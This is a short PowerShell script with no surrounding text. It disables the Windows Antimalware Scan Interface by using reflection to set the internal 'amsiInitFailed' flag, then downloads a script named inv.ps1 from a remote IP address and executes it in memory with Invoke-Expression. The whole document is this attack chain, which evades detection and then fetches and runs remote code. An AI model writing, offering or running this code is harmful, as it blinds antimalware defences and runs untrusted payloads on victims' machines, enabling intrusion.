$a = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$f = $a.GetField('amsiInitFailed', 'NonPublic,Static')
$f.SetValue($null, $true)
$r = Invoke-WebRequest -Uri 'https://198.51.100.4/tools/inv.ps1' -UseBasicParsing
Invoke-Expression $r.Content
